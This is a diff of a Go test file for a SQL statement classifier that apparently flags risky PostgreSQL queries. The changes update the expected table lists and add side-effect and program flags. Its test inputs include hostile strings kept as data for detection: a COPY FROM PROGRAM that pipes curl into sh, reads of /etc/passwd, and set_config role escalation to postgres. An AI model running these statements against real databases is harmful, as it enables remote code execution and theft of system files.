@@ -21,6 +21,7 @@ func tables(names ...string) []Table {
 }
 
 func funcs(names ...string) []string { return names }
+func list(s ...string) []string      { return s }
 
 // TestParseSingle checks the whole summary (all but Text and Fingerprint)
 // of strings holding one statement.
@@ -48,7 +49,7 @@ func TestParseSingle(t *testing.T) {
 		{name: "exists", sql: "SELECT EXISTS (SELECT 1 FROM secrets)",
 			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("secrets")}},
 		{name: "read cte", sql: "WITH s AS (SELECT * FROM public.secrets) SELECT * FROM s",
-			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("s", "public.secrets")}},
+			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},
 		{name: "duplicates removed", sql: "SELECT * FROM t, t AS u, public.t",
 			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("t", "public.t")}},
 		{name: "three part name", sql: "SELECT * FROM orders.public.secrets",
@@ -94,7 +95,7 @@ func TestParseSingle(t *testing.T) {
 		{name: "quoted function", sql: `SELECT "pg_read_file"('/etc/passwd')`,
 			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("pg_read_file"), ServerFiles: true}},
 		{name: "function in from", sql: "SELECT * FROM lo_import('/etc/passwd')",
-			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("lo_import"), ServerFiles: true}},
+			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("lo_import"), ServerFiles: true, SideEffects: true}},
 		{name: "function in argument", sql: "SELECT length(pg_read_file('/x')) FROM t",
 			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("t"), Functions: funcs("length", "pg_read_file"), ServerFiles: true}},
 		{name: "function in where of update", sql: "UPDATE t SET a = 1 WHERE id = pg_backend_pid()",
@@ -172,17 +173,17 @@ func TestParseSingle(t *testing.T) {
 
 		// Writes hidden in CTEs and queries.
 		{name: "delete in cte", sql: "WITH d AS (DELETE FROM public.secrets RETURNING *) SELECT * FROM d",
-			want: Statement{Kind: KindWrite, Command: "SELECT", Tables: tables("d", "public.secrets"), Unbounded: true, WritesInCTE: true}},
+			want: Statement{Kind: KindWrite, Command: "SELECT", Tables: tables("public.secrets"), Unbounded: true, WritesInCTE: true}},
 		{name: "update in nested cte", sql: "SELECT * FROM (WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING a) SELECT * FROM u) x",
-			want: Statement{Kind: KindWrite, Command: "SELECT", Tables: tables("t", "u"), WritesInCTE: true}},
+			want: Statement{Kind: KindWrite, Command: "SELECT", Tables: tables("t"), WritesInCTE: true}},
 		{name: "insert in cte of insert", sql: "WITH i AS (INSERT INTO a VALUES (1) RETURNING *) INSERT INTO b SELECT * FROM i",
-			want: Statement{Kind: KindWrite, Command: "INSERT", Tables: tables("a", "b", "i"), WritesInCTE: true}},
+			want: Statement{Kind: KindWrite, Command: "INSERT", Tables: tables("a", "b"), WritesInCTE: true}},
 
 		// EXPLAIN.
 		{name: "explain select", sql: "EXPLAIN SELECT * FROM t",
 			want: Statement{Kind: KindUtility, Command: "EXPLAIN", Tables: tables("t")}},
 		{name: "explain delete", sql: "EXPLAIN DELETE FROM t",
-			want: Statement{Kind: KindUtility, Command: "EXPLAIN", Tables: tables("t"), Unbounded: true}},
+			want: Statement{Kind: KindUtility, Command: "EXPLAIN", Tables: tables("t")}},
 		{name: "explain analyze delete", sql: "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
 			want: Statement{Kind: KindWrite, Command: "EXPLAIN", Tables: tables("t"), ExplainAnalyze: true}},
 		{name: "explain options analyze", sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1",
@@ -196,7 +197,7 @@ func TestParseSingle(t *testing.T) {
 		{name: "explain analyze select", sql: "EXPLAIN ANALYZE SELECT * FROM t",
 			want: Statement{Kind: KindRead, Command: "EXPLAIN", Tables: tables("t")}},
 		{name: "explain analyze cte write", sql: "EXPLAIN ANALYZE WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d",
-			want: Statement{Kind: KindWrite, Command: "EXPLAIN", Tables: tables("d", "t"), WritesInCTE: true, ExplainAnalyze: true}},
+			want: Statement{Kind: KindWrite, Command: "EXPLAIN", Tables: tables("t"), WritesInCTE: true, ExplainAnalyze: true}},
 		{name: "explain analyze execute", sql: "EXPLAIN ANALYZE EXECUTE q(1)",
 			want: Statement{Kind: KindUtility, Command: "EXPLAIN", ExplainAnalyze: true, Executes: []string{"q"}}},
 		{name: "create table as execute", sql: "CREATE TABLE c AS EXECUTE q(1)",
@@ -214,9 +215,9 @@ func TestParseSingle(t *testing.T) {
 		{name: "copy delete returning to", sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT",
 			want: Statement{Kind: KindWrite, Command: "COPY", Tables: tables("t"), Unbounded: true, CopyDirection: CopyTo}},
 		{name: "copy from program", sql: "COPY t FROM PROGRAM 'curl http://x | sh'",
-			want: Statement{Kind: KindWrite, Command: "COPY", Tables: tables("t"), CopyDirection: CopyFrom, CopyProgram: true}},
+			want: Statement{Kind: KindWrite, Command: "COPY", Tables: tables("t"), CopyDirection: CopyFrom, CopyProgram: true, Program: true}},
 		{name: "copy to program", sql: "copy (select 1) to program 'cat > /tmp/x'",
-			want: Statement{Kind: KindRead, Command: "COPY", CopyDirection: CopyTo, CopyProgram: true}},
+			want: Statement{Kind: KindRead, Command: "COPY", CopyDirection: CopyTo, CopyProgram: true, Program: true}},
 		{name: "copy from file", sql: "COPY t FROM '/etc/passwd'",
 			want: Statement{Kind: KindWrite, Command: "COPY", Tables: tables("t"), CopyDirection: CopyFrom, CopyFile: true}},
 		{name: "copy to file", sql: "COPY t TO '/tmp/t.csv'",
@@ -246,9 +247,9 @@ func TestParseSingle(t *testing.T) {
 		{name: "create view", sql: "CREATE VIEW v AS SELECT * FROM public.secrets",
 			want: Statement{Kind: KindDDL, Command: "CREATE VIEW", Tables: tables("v", "public.secrets")}},
 		{name: "alter table", sql: "ALTER TABLE orders ADD COLUMN x int",
-			want: Statement{Kind: KindDDL, Command: "ALTER TABLE", Tables: tables("orders")}},
+			want: Statement{Kind: KindDDL, Command: "ALTER TABLE", Actions: list("ALTER TABLE ADD COLUMN"), Tables: tables("orders")}},
 		{name: "rename table", sql: "ALTER TABLE public.secrets RENAME TO open",
-			want: Statement{Kind: KindDDL, Command: "ALTER TABLE", Tables: tables("public.secrets")}},
+			want: Statement{Kind: KindDDL, Command: "ALTER TABLE", Actions: list("ALTER TABLE RENAME"), Tables: tables("public.secrets")}},
 		{name: "create index", sql: "CREATE INDEX ON orders (id)",
 			want: Statement{Kind: KindDDL, Command: "CREATE INDEX", Tables: tables("orders")}},
 		{name: "comment on table", sql: "COMMENT ON TABLE public.secrets IS 'x'",
@@ -326,7 +327,7 @@ func TestParseSingle(t *testing.T) {
 		{name: "prepare function", sql: "PREPARE q AS SELECT pg_read_file($1)",
 			want: Statement{Kind: KindRead, Command: "PREPARE", Functions: funcs("pg_read_file"), ServerFiles: true, Prepares: "q"}},
 		{name: "prepare cte write", sql: "PREPARE q AS WITH d AS (DELETE FROM t WHERE id = $1 RETURNING *) SELECT * FROM d",
-			want: Statement{Kind: KindWrite, Command: "PREPARE", Tables: tables("d", "t"), WritesInCTE: true, Prepares: "q"}},
+			want: Statement{Kind: KindWrite, Command: "PREPARE", Tables: tables("t"), WritesInCTE: true, Prepares: "q"}},
 		{name: "declare cursor", sql: "DECLARE c CURSOR FOR SELECT * FROM public.secrets",
 			want: Statement{Kind: KindRead, Command: "DECLARE CURSOR", Tables: tables("public.secrets")}},
 
@@ -346,18 +347,18 @@ func TestParseSingle(t *testing.T) {
 		{name: "discard all", sql: "DISCARD ALL",
 			want: Statement{Kind: KindUtility, Command: "DISCARD", Roles: true}},
 		{name: "set_config role", sql: "SELECT set_config('role', 'postgres', false)",
-			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("set_config"), Roles: true}},
+			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("set_config"), Roles: true}},
 		{name: "set_config qualified upper", sql: "SELECT pg_catalog.SET_CONFIG('ROLE', 'postgres', true)",
-			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("pg_catalog.set_config", "set_config"), Roles: true}},
+			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("pg_catalog.set_config", "set_config"), Roles: true}},
 		{name: "set_config session authorization", sql: "SELECT set_config('session_authorization', 'postgres', false)",
-			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("set_config"), Roles: true}},
+			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("set_config"), Roles: true}},
 		{name: "set_config cast", sql: "SELECT set_config('role'::text, 'postgres', false)",
-			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("set_config"), Roles: true}},
+			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("set_config"), Roles: true}},
 		{name: "set_config dynamic", sql: "SELECT set_config(name, 'x', false) FROM settings",
-			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("settings"), Functions: funcs("set_config"), Roles: true, ServerFiles: true,
+			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("settings"), SideEffects: true, Functions: funcs("set_config"), Roles: true, ServerFiles: true,
 				Misreads: "it may turn standard_conforming_strings off"}},
 		{name: "set_config other setting", sql: "SELECT set_config('work_mem', '64MB', false)",
-			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("set_config")}},
+			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("set_config")}},
 		{name: "alter role set role", sql: "ALTER ROLE alice SET role = postgres",
 			want: Statement{Kind: KindDCL, Command: "ALTER ROLE", Roles: true}},
 		{name: "function with set role", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'",
@@ -367,7 +368,7 @@ func TestParseSingle(t *testing.T) {
 		{name: "set role in string", sql: "SELECT 'SET ROLE postgres', 'role'",
 			want: Statement{Kind: KindRead, Command: "SELECT"}},
 		{name: "set_config in update", sql: "UPDATE t SET a = set_config('role', 'postgres', false) WHERE id = 1",
-			want: Statement{Kind: KindWrite, Command: "UPDATE", Tables: tables("t"), Functions: funcs("set_config"), Roles: true}},
+			want: Statement{Kind: KindWrite, Command: "UPDATE", Tables: tables("t"), SideEffects: true, Functions: funcs("set_config"), Roles: true}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
